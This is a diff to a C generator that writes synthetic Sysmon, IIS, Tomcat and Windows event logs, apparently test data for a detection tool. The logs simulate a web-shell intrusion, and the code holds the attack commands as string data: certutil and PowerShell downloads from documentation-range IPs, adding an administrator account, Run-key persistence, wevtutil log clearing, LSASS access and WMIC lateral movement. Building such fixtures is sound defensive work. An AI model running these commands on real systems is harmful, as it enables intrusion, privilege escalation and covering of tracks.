@@ -48,6 +48,8 @@ typedef struct host {
     uint64_t token;
     uint32_t pid;
     proc system[NOISE]; /* what the background hangs under; pid 0: not yet known */
+    st_buf *access;     /* the web server's log; NULL: it keeps none */
+    bool tomcat;        /* in Tomcat's form, not in that of IIS */
 } host;
 
 /* Whether a step failed; main says so. */
@@ -55,6 +57,7 @@ typedef struct story {
     const char *out;
     const char *damaged;
     const char *events;
+    st_ticks cleared; /* when a log of web01 was */
     bool failed;
 } story;
 
@@ -114,6 +117,9 @@ static const image_info known_images[] = {
     { "ping.exe", "ping.exe", "TCP/IP Ping Command" },
     { "java.exe", "java.exe", "OpenJDK Platform binary" },
     { "httpd.exe", "httpd.exe", "Apache HTTP Server" },
+    { "reg.exe", "reg.exe", "Registry Console Tool" },
+    { "wevtutil.exe", "wevtutil.exe", "Eventing Command Line Utility" },
+    { "WMIC.exe", "wmic.exe", "WMI Commandline Utility" },
 };
 
 static image_info info_of(const char *image)
@@ -299,35 +305,141 @@ static void service_state(story *s, host *h)
     st_buf_free(&utc);
 }
 
-static void connection(story *s, host *h, const proc *p, const char *to, const char *port)
+/* events of a process */
+
+#define F(name, text)             \
+    {                             \
+        name, text, GEN_STRING, 0 \
+    }
+
+/* An event of a process: what all have, its own fields, and User where the schema has it there. */
+static void act(story *s, host *h, uint16_t id, uint8_t version, const proc *p,
+                const gen_field *own, size_t n)
 {
+    gen_field f[24];
     char pid[16];
     st_buf utc = { 0 };
+    size_t k = 0;
+    wait_ms(h, 1500);
     snprintf(pid, sizeof pid, "%u", p->pid);
     st_buf_time_sysmon(&utc, h->now);
     st_buf_char(&utc, 0);
-    const gen_field f[] = {
-        { "RuleName", "-", GEN_STRING, 0 },
-        { "UtcTime", utc.p, GEN_STRING, 0 },
-        { "ProcessGuid", p->guid, GEN_GUID, 0 },
-        { "ProcessId", pid, GEN_U32, 0 },
-        { "Image", p->image, GEN_STRING, 0 },
-        { "User", p->user, GEN_STRING, 0 },
-        { "Protocol", "tcp", GEN_STRING, 0 },
-        { "Initiated", "true", GEN_BOOL, 0 },
-        { "SourceIsIpv6", "false", GEN_BOOL, 0 },
-        { "SourceIp", "192.0.2.10", GEN_STRING, 0 },
-        { "SourceHostname", h->computer, GEN_STRING, 0 },
-        { "SourcePort", "49731", GEN_U16, 0 },
-        { "SourcePortName", "-", GEN_STRING, 0 },
-        { "DestinationIsIpv6", "false", GEN_BOOL, 0 },
-        { "DestinationIp", to, GEN_STRING, 0 },
-        { "DestinationHostname", "-", GEN_STRING, 0 },
-        { "DestinationPort", port, GEN_U16, 0 },
-        { "DestinationPortName", "-", GEN_STRING, 0 },
-    };
-    add(s, h, 3, 5, f, sizeof f / sizeof f[0], "Network connection detected:");
+    f[k++] = (gen_field)F("RuleName", "-");
+    f[k++] = (gen_field)F("UtcTime", utc.p);
+    f[k++] = (gen_field){ "ProcessGuid", p->guid, GEN_GUID, 0 };
+    f[k++] = (gen_field){ "ProcessId", pid, GEN_U32, 0 };
+    f[k++] = (gen_field)F("Image", p->image);
+    for (size_t i = 0; i < n; i++)
+        f[k++] = own[i];
+    f[k++] = (gen_field)F("User", p->user);
+    add(s, h, id, version, f, k, "");
     st_buf_free(&utc);
+}
+#define ACT(id, version, p, ...)                                    \
+    do {                                                            \
+        const gen_field own[] = { __VA_ARGS__ };                    \
+        act(s, h, id, version, p, own, sizeof own / sizeof own[0]); \
+    } while (0)
+
+/* One process does something to another. */
+static void reach(story *s, host *h, uint16_t id, const proc *from, const proc *to)
+{
+    char from_pid[16], to_pid[16];
+    st_buf utc = { 0 };
+    wait_ms(h, 1500);
+    snprintf(from_pid, sizeof from_pid, "%u", from->pid);
+    snprintf(to_pid, sizeof to_pid, "%u", to->pid);
+    st_buf_time_sysmon(&utc, h->now);
+    st_buf_char(&utc, 0);
+    const bool opened = id == 10;
+    const gen_field f[] = {
+        F("RuleName", "technique_id=T1055,technique_name=Process Injection"),
+        F("UtcTime", utc.p),
+        { opened ? "SourceProcessGUID" : "SourceProcessGuid", from->guid, GEN_GUID, 0 },
+        { "SourceProcessId", from_pid, GEN_U32, 0 },
+        F("SourceImage", from->image),
+        { opened ? "TargetProcessGUID" : "TargetProcessGuid", to->guid, GEN_GUID, 0 },
+        { "TargetProcessId", to_pid, GEN_U32, 0 },
+        F("TargetImage", to->image),
+        { opened ? "SourceThreadId" : "NewThreadId", "4242", GEN_U32, 0 },
+        opened ? (gen_field){ "GrantedAccess", "0x1fffff", GEN_HEX32, 0 }
+               : (gen_field)F("StartAddress", "0x00007FF8C0DE0000"),
+        opened ? (gen_field)F("CallTrace", SYS32 "ntdll.dll+9d204|UNKNOWN(000001C0DE000000)")
+               : (gen_field)F("StartModule", "-"),
+        F("SourceUser", from->user),
+        F("TargetUser", to->user),
+    };
+    add(s, h, id, opened ? 3 : 2, f, sizeof f / sizeof f[0], "");
+    st_buf_free(&utc);
+}
+
+static void connects(story *s, host *h, const proc *p, bool out, const char *source,
+                     const char *source_port, const char *to, const char *name, const char *port)
+{
+    ACT(3, 5, p, F("Protocol", "tcp"), { "Initiated", out ? "true" : "false", GEN_BOOL, 0 },
+        { "SourceIsIpv6", "false", GEN_BOOL, 0 }, F("SourceIp", source),
+        F("SourceHostname", out ? h->computer : "-"), { "SourcePort", source_port, GEN_U16, 0 },
+        F("SourcePortName", "-"), { "DestinationIsIpv6", "false", GEN_BOOL, 0 },
+        F("DestinationIp", to), F("DestinationHostname", name),
+        { "DestinationPort", port, GEN_U16, 0 }, F("DestinationPortName", "-"));
+}
+
+/* Out, from here, half a second on. */
+static void connection(story *s, host *h, const proc *p, const char *to, const char *port)
+{
+    connects(s, h, p, true, "192.0.2.10", "49731", to, "-", port);
+}
+
+static void looks_up(story *s, host *h, const proc *p, const char *name, const char *answer)
+{
+    ACT(22, 5, p, F("QueryName", name), F("QueryStatus", "0"), F("QueryResults", answer));
+}
+
+static void writes(story *s, host *h, const proc *p, const char *path)
+{
+    st_buf utc = { 0 };
+    st_buf_time_sysmon(&utc, h->now);
+    st_buf_char(&utc, 0);
+    ACT(11, 2, p, F("TargetFilename", path), F("CreationUtcTime", utc.p));
+    st_buf_free(&utc);
+}
+
+static void deletes(story *s, host *h, const proc *p, const char *path)
+{
+    ACT(26, 5, p, F("TargetFilename", path),
+        F("Hashes", "SHA256=6B86B273FF34FCE19D6B804EFF5A3F5747ADA4EAA22F1D49C01E52DDB7875B4B"),
+        { "IsExecutable", "true", GEN_BOOL, 0 });
+}
+
+static void sets(story *s, host *h, const proc *p, const char *key, const char *value)
+{
+    ACT(13, 2, p, F("EventType", "SetValue"), F("TargetObject", key), F("Details", value));
+}
+
+/* what a web server notes of a request */
+
+#define INTRUDER "198.51.100.23"
+#define BROWSER "Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)"
+
+static void request(host *h, const char *client, const char *method, const char *path,
+                    unsigned status)
+{
+    static const char *const months[] = { "Jan", "Feb", "Mar", "Apr", "May", "Jun",
+                                          "Jul", "Aug", "Sep", "Oct", "Nov", "Dec" };
+    st_buf t = { 0 };
+    if (h->access == NULL)
+        return;
+    st_buf_time_sysmon(&t, h->now);
+    st_buf_char(&t, 0); /* 2026-03-04 06:00:00.000 */
+    if (h->tomcat)
+        st_buf_fmt(h->access, "%s - - [%.2s/%s/%.4s:%.8s +0000] \"%s %s HTTP/1.1\" %u 512\n",
+                   client, t.p + 8, months[((t.p[5] - '0') * 10 + t.p[6] - '0' - 1) % 12], t.p,
+                   t.p + 11, method, path, status);
+    else
+        st_buf_fmt(h->access, "%.19s 192.0.2.10 %s %s - 443 - %s " BROWSER " - %u 0 0 15\r\n", t.p,
+                   method, path, client, status);
+    wait_ms(h, 120);
+    st_buf_free(&t);
 }
 
 /* background: what any server does */
@@ -381,7 +493,9 @@ static void background(story *s, host *h, unsigned rounds)
     for (unsigned i = 0; i < rounds; i++) {
         const daily *d = &noise[i % NOISE];
         proc *parent = noise_parent(h, i % NOISE);
-        wait_ms(h, 40000 + i * 317);
+        wait_ms(h, 20000);
+        request(h, "192.0.2.77", "GET", i % 3 ? "/" : "/news.aspx", 200);
+        wait_ms(h, 20000 + i * 317);
         proc p = start(s, h, parent, d->image, d->command, d->user, "System");
         wait_ms(h, 900);
         if (i % 2 == 0)
@@ -445,8 +559,11 @@ static host new_host(story *s, const char *computer, unsigned machine, unsigned 
 
 /* testdata/iis */
 
+#define SHELL_PATH "/uploads/view.aspx"
+
 static void compile_page(story *s, host *h, const proc *server)
 {
+    request(h, INTRUDER, "GET", SHELL_PATH, 200);
     proc csc = child(s, h, server, DOTNET "csc.exe",
                      "\"" DOTNET "csc.exe\" /noconfig /fullpaths "
                      "@\"C:\\Windows\\TEMP\\4lqv0zpd.cmdline\"");
@@ -462,6 +579,7 @@ static void compile_page(story *s, host *h, const proc *server)
 static void shell(story *s, host *h, const proc *server, const char *line, const char *image,
                   const char *command)
 {
+    request(h, INTRUDER, "POST", h->tomcat ? "/help/x.jsp" : SHELL_PATH, 200);
     proc cmd = child(s, h, server, SYS32 "cmd.exe", line);
     wait_ms(h, 20);
     run(s, h, &cmd, SYS32 "conhost.exe",
@@ -475,6 +593,7 @@ static void iis_recon(story *s, host *h, const proc *server)
 {
     shell(s, h, server, "\"c:\\windows\\system32\\cmd.exe\" /c whoami /all", SYS32 "whoami.exe",
           "whoami  /all");
+    request(h, INTRUDER, "POST", SHELL_PATH, 200);
     proc cmd =
         child(s, h, server, SYS32 "cmd.exe", "\"c:\\windows\\system32\\cmd.exe\" /c net user");
     wait_ms(h, 25);
@@ -492,6 +611,7 @@ static void iis_recon(story *s, host *h, const proc *server)
 
 static void iis_chopper(story *s, host *h, const proc *server)
 {
+    request(h, INTRUDER, "POST", SHELL_PATH, 200);
     proc cmd = child(s, h, server, SYS32 "cmd.exe",
                      "\"cmd\" /c cd /d \"C:\\inetpub\\wwwroot\\\"&tasklist&echo [S]&cd&echo [E]");
     wait_ms(h, 30);
@@ -507,35 +627,59 @@ static const char download_line[] =
     "wA"
     "bwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AMgAwADMALgAwAC4AMQAxADMALgA5AC8AYQAnACkA";
 
+/* The account is SYSTEM's: a way back, and what would tell of it. */
+static void iis_root(story *s, host *h, const proc *root)
+{
+    run(s, h, root, SYS32 "whoami.exe", "whoami");
+    proc net = child(s, h, root, SYS32 "net.exe", "net localgroup administrators helpdesk /add");
+    run(s, h, &net, SYS32 "net1.exe",
+        "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add");
+    end(s, h, &net);
+    run(s, h, root, SYS32 "nltest.exe", "nltest /domain_trusts");
+    run(s, h, root, SYS32 "inetsrv\\appcmd.exe",
+        "appcmd  list apppool DefaultAppPool /text:processmodel.password");
+    proc reg = child(s, h, root, SYS32 "reg.exe",
+                     "reg  add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Updater "
+                     "/d C:\\ProgramData\\u.exe");
+    sets(s, h, &reg, "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater",
+         "C:\\ProgramData\\u.exe");
+    end(s, h, &reg);
+    s->cleared = h->now + 60 * ST_TICKS_MS;
+    run(s, h, root, SYS32 "wevtutil.exe", "wevtutil  cl \"Windows PowerShell\"");
+}
+
 static void iis_download(story *s, host *h, const proc *server)
 {
+    proc lsass = unseen(h, SYS32 "lsass.exe", SYS32 "lsass.exe", SYSTEM_USER);
+    request(h, INTRUDER, "POST", SHELL_PATH, 200);
     proc cmd = child(s, h, server, SYS32 "cmd.exe",
                      "\"c:\\windows\\system32\\cmd.exe\" /c start /b powershell");
     wait_ms(h, 30);
     proc ps = child(s, h, &cmd, POWERSHELL, download_line);
-    wait_ms(h, 700);
+    looks_up(s, h, &ps, "cdn.intruder.example", "::ffff:203.0.113.9;");
     connection(s, h, &ps, "203.0.113.9", "80");
     end(s, h, &cmd);
-    wait_ms(h, 8000);
-    run(s, h, &ps, SYS32 "certutil.exe",
-        "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
+    wait_ms(h, 6000);
+    proc fetch =
+        child(s, h, &ps, SYS32 "certutil.exe",
+              "certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\Windows\\Temp\\p.exe");
+    connection(s, h, &fetch, "203.0.113.9", "80");
+    writes(s, h, &fetch, "C:\\Windows\\Temp\\p.exe");
+    end(s, h, &fetch);
     run(s, h, &ps, SYS32 "notepad.exe", "notepad.exe");
     proc potato =
         child(s, h, &ps, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe -c cmd.exe");
     wait_ms(h, 1200);
     proc root = start(s, h, &potato, SYS32 "cmd.exe", "cmd.exe", SYSTEM_USER, "System");
-    wait_ms(h, 4000);
-    run(s, h, &root, SYS32 "whoami.exe", "whoami");
-    proc net = child(s, h, &root, SYS32 "net.exe", "net localgroup administrators helpdesk /add");
-    run(s, h, &net, SYS32 "net1.exe",
-        "C:\\Windows\\system32\\net1 localgroup administrators helpdesk /add");
-    end(s, h, &net);
-    run(s, h, &root, SYS32 "nltest.exe", "nltest /domain_trusts");
-    run(s, h, &root, SYS32 "inetsrv\\appcmd.exe",
-        "appcmd  list apppool DefaultAppPool /text:processmodel.password");
+    wait_ms(h, 2500);
+    reach(s, h, 10, &potato, &lsass);
+    writes(s, h, &potato, "C:\\ProgramData\\u.exe");
+    iis_root(s, h, &root);
+    deletes(s, h, &potato, "C:\\Windows\\Temp\\p.exe");
     end(s, h, &root);
     end(s, h, &potato);
     wait_ms(h, 5000);
+    request(h, INTRUDER, "POST", SHELL_PATH, 200);
     run(s, h, server, "C:\\inetpub\\temp\\csc.exe", "C:\\inetpub\\temp\\csc.exe -l 0 -p 8443");
 }
 
@@ -545,14 +689,26 @@ static const char w3wp_line[] =
     "-a \\\\.\\pipe\\iisipm6f2 -h "
     "\"C:\\inetpub\\temp\\apppools\\DefaultAppPool\\DefaultAppPool.config\"";
 
+static const char iis_head[] =
+    "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n"
+    "#Date: 2026-03-04 06:00:00\r\n"
+    "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
+    "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\r\n";
+
 static void tell_iis(story *s)
 {
+    st_buf access = { 0 };
     gen_options dirty = { .dirty = true, .claimed_chunks = 1, .minor = 2, .spare_chunks = 1 };
     host h = new_host(s, "web01.corp.example", 0xA1B20001, 23, "2026-03-04T06:00:00Z", &dirty);
     proc server = unseen(&h, SYS32 "inetsrv\\w3wp.exe", w3wp_line, POOL);
     server.level = "High";
+    h.access = &access;
+    st_buf_str(&access, st_str_of(iis_head));
     service_state(s, &h);
     background(s, &h, 14);
+    request(&h, INTRUDER, "POST", "/upload.aspx", 302);
+    writes(s, &h, &server, "C:\\inetpub\\wwwroot\\uploads\\view.aspx");
+    wait_ms(&h, 12000);
     compile_page(s, &h, &server);
     wait_ms(&h, 9000);
     iis_recon(s, &h, &server);
@@ -564,6 +720,8 @@ static void tell_iis(story *s)
     background(s, &h, 3);
     gen_close_chunk(h.log, 2); /* two of them stay behind as slack */
     finish(s, h.log, "iis", "Microsoft-Windows-Sysmon%4Operational.evtx");
+    write_file(s, "iis", "u_ex260304.log", st_buf_slice(&access));
+    st_buf_free(&access);
 }
 
 /* Not Sysmon: its events have number 1 too. */
@@ -602,6 +760,12 @@ static void tell_others(story *s)
         { "Empty", "", GEN_STRING, 0 },
         { "Odd", "tab\tquote\" <tag> & 100% é 𠮷", GEN_STRING, 0 },
     };
+    const gen_field cleared[] = {
+        { "SubjectUserName", "SYSTEM", GEN_STRING, 0 },
+        { "SubjectDomainName", "NT AUTHORITY", GEN_STRING, 0 },
+        { "Channel", "Windows PowerShell", GEN_STRING, 0 },
+        { "BackupPath", "", GEN_STRING, 0 },
+    };
     gen_event ev = { .provider = "Microsoft-Windows-Kernel-General",
                      .provider_guid = "{A68CA8B7-004F-D7B6-A698-07E2DE0F1F5D}",
                      .channel = "System",
@@ -628,6 +792,15 @@ static void tell_others(story *s)
     ev.fields = values;
     ev.field_count = sizeof values / sizeof values[0];
     ok = ok && gen_add(log, &ev);
+    ev.provider = "Microsoft-Windows-Eventlog";
+    ev.provider_guid = "{FC65DDD8-D6EF-4962-83D5-6E5CFE9CE148}";
+    ev.event_id = 104;
+    ev.task = 104;
+    ev.created = s->cleared;
+    ev.fields = cleared;
+    ev.field_count = sizeof cleared / sizeof cleared[0];
+    ev.user_data = "LogFileCleared";
+    ok = ok && gen_add(log, &ev);
     s->failed |= !ok;
     finish(s, log, "iis", "System.evtx");
     finish(s, gen_new(NULL), "iis", "Microsoft-Windows-PowerShell%4Admin.evtx");
@@ -636,28 +809,31 @@ static void tell_others(story *s)
 
 /* testdata/tomcat */
 
+#define TOMCAT "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\"
+
 static void tell_tomcat(story *s)
 {
     gen_options no_crc = { .no_crc = true };
+    st_buf access = { 0 };
     host h = new_host(s, "APP02", 0xA1B20002, 21, "2026-03-05T20:30:00Z", &no_crc);
+    h.access = &access;
+    h.tomcat = true;
     proc services = services_of(&h);
     service_state(s, &h);
     background(s, &h, 8);
-    proc tomcat =
-        start(s, &h, &services,
-              "C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\Tomcat9.exe",
-              "\"C:\\Program Files\\Apache Software Foundation\\Tomcat 9.0\\bin\\"
-              "Tomcat9.exe\" //RS//Tomcat9",
-              LOCAL_SERVICE, "System");
+    proc tomcat = start(s, &h, &services, TOMCAT "bin\\Tomcat9.exe",
+                        "\"" TOMCAT "bin\\Tomcat9.exe\" //RS//Tomcat9", LOCAL_SERVICE, "System");
     run(s, &h, &tomcat, SYS32 "conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0x4");
     wait_ms(&h, 3600000);
     shell(s, &h, &tomcat, "cmd.exe /c whoami", SYS32 "whoami.exe", "whoami");
     shell(s, &h, &tomcat, "cmd.exe /c \"net view\"", SYS32 "net.exe", "net view");
+    request(&h, INTRUDER, "POST", "/help/x.jsp", 200);
     proc ps = child(
         s, &h, &tomcat, POWERSHELL,
         "powershell.exe -c \"iwr http://198.51.100.7/s.jsp -OutFile ..\\webapps\\ROOT\\s.jsp\"");
-    wait_ms(&h, 2500);
+    wait_ms(&h, 1000);
     connection(s, &h, &ps, "198.51.100.7", "80");
+    writes(s, &h, &ps, TOMCAT "webapps\\ROOT\\s.jsp");
     end(s, &h, &ps);
     background(s, &h, 5);
     proc java = start(s, &h, &services, "C:\\Program Files\\Java\\jre\\bin\\java.exe",
@@ -670,6 +846,8 @@ static void tell_tomcat(story *s)
     end(s, &h, &cmd);
     background(s, &h, 9);
     finish(s, h.log, "tomcat", "sysmon.evtx");
+    write_file(s, "tomcat", "localhost_access_log.2026-03-05.txt", st_buf_slice(&access));
+    st_buf_free(&access);
 }
 
 /* testdata/clean */
@@ -802,6 +980,23 @@ static void tell_clean(story *s)
 
 /* testdata/collector */
 
+/* WEB05 asks WMI on FS07 to start a program, which is the one that web01 had. */
+static void spreads(story *s, host *from, host *to, const proc *server)
+{
+    proc cmd = child(s, from, server, SYS32 "cmd.exe",
+                     "\"cmd.exe\" /c wmic /node:FS07 process call create C:\\Windows\\Temp\\p.exe");
+    wait_ms(from, 30);
+    run(s, from, &cmd, SYS32 "wbem\\WMIC.exe",
+        "wmic  /node:FS07 process call create C:\\Windows\\Temp\\p.exe");
+    end(s, from, &cmd);
+    to->now = from->now + 2 * ST_TICKS_SECOND;
+    proc wmi = unseen(to, SYS32 "wbem\\WmiPrvSE.exe",
+                      SYS32 "wbem\\wmiprvse.exe -secured -Embedding", SYSTEM_USER);
+    proc p = start(s, to, &wmi, "C:\\Windows\\Temp\\p.exe", "C:\\Windows\\Temp\\p.exe",
+                   "CORP\\svc-web", "High");
+    connection(s, to, &p, "203.0.113.9", "443");
+}
+
 static void tell_collector(story *s)
 {
     gen_log *log = gen_new(NULL);
@@ -828,6 +1023,7 @@ static void tell_collector(story *s)
     server.level = "High";
     shell(s, &hosts[0], &server, "\"cmd.exe\" /c \"echo <%=now()%> & whoami\"", SYS32 "whoami.exe",
           "whoami");
+    spreads(s, &hosts[0], &hosts[2], &server);
     for (unsigned i = 0; i < 3; i++)
         background(s, &hosts[i], 3);
     finish(s, log, "collector", "ForwardedEvents.evtx");
@@ -855,83 +1051,6 @@ static void tell_damaged(story *s)
 }
 
 /* tests/events */
-
-#define F(name, text)             \
-    {                             \
-        name, text, GEN_STRING, 0 \
-    }
-
-/* An event of a process: what all have, its own fields, and User where the schema has it there. */
-static void act(story *s, host *h, uint16_t id, uint8_t version, const proc *p,
-                const gen_field *own, size_t n)
-{
-    gen_field f[24];
-    char pid[16];
-    st_buf utc = { 0 };
-    size_t k = 0;
-    wait_ms(h, 1500);
-    snprintf(pid, sizeof pid, "%u", p->pid);
-    st_buf_time_sysmon(&utc, h->now);
-    st_buf_char(&utc, 0);
-    f[k++] = (gen_field)F("RuleName", "-");
-    f[k++] = (gen_field)F("UtcTime", utc.p);
-    f[k++] = (gen_field){ "ProcessGuid", p->guid, GEN_GUID, 0 };
-    f[k++] = (gen_field){ "ProcessId", pid, GEN_U32, 0 };
-    f[k++] = (gen_field)F("Image", p->image);
-    for (size_t i = 0; i < n; i++)
-        f[k++] = own[i];
-    f[k++] = (gen_field)F("User", p->user);
-    add(s, h, id, version, f, k, "");
-    st_buf_free(&utc);
-}
-#define ACT(id, version, p, ...)                                    \
-    do {                                                            \
-        const gen_field own[] = { __VA_ARGS__ };                    \
-        act(s, h, id, version, p, own, sizeof own / sizeof own[0]); \
-    } while (0)
-
-/* One process does something to another. */
-static void reach(story *s, host *h, uint16_t id, const proc *from, const proc *to)
-{
-    char from_pid[16], to_pid[16];
-    st_buf utc = { 0 };
-    wait_ms(h, 1500);
-    snprintf(from_pid, sizeof from_pid, "%u", from->pid);
-    snprintf(to_pid, sizeof to_pid, "%u", to->pid);
-    st_buf_time_sysmon(&utc, h->now);
-    st_buf_char(&utc, 0);
-    const bool opened = id == 10;
-    const gen_field f[] = {
-        F("RuleName", "technique_id=T1055,technique_name=Process Injection"),
-        F("UtcTime", utc.p),
-        { opened ? "SourceProcessGUID" : "SourceProcessGuid", from->guid, GEN_GUID, 0 },
-        { "SourceProcessId", from_pid, GEN_U32, 0 },
-        F("SourceImage", from->image),
-        { opened ? "TargetProcessGUID" : "TargetProcessGuid", to->guid, GEN_GUID, 0 },
-        { "TargetProcessId", to_pid, GEN_U32, 0 },
-        F("TargetImage", to->image),
-        { opened ? "SourceThreadId" : "NewThreadId", "4242", GEN_U32, 0 },
-        opened ? (gen_field){ "GrantedAccess", "0x1fffff", GEN_HEX32, 0 }
-               : (gen_field)F("StartAddress", "0x00007FF8C0DE0000"),
-        opened ? (gen_field)F("CallTrace", SYS32 "ntdll.dll+9d204|UNKNOWN(000001C0DE000000)")
-               : (gen_field)F("StartModule", "-"),
-        F("SourceUser", from->user),
-        F("TargetUser", to->user),
-    };
-    add(s, h, id, opened ? 3 : 2, f, sizeof f / sizeof f[0], "");
-    st_buf_free(&utc);
-}
-
-static void connects(story *s, host *h, const proc *p, bool out, const char *source,
-                     const char *source_port, const char *to, const char *name, const char *port)
-{
-    ACT(3, 5, p, F("Protocol", "tcp"), { "Initiated", out ? "true" : "false", GEN_BOOL, 0 },
-        { "SourceIsIpv6", "false", GEN_BOOL, 0 }, F("SourceIp", source),
-        F("SourceHostname", out ? h->computer : "-"), { "SourcePort", source_port, GEN_U16, 0 },
-        F("SourcePortName", "-"), { "DestinationIsIpv6", "false", GEN_BOOL, 0 },
-        F("DestinationIp", to), F("DestinationHostname", name),
-        { "DestinationPort", port, GEN_U16, 0 }, F("DestinationPortName", "-"));
-}
 
 static void fetches(story *s, host *h, const proc *p)
 {
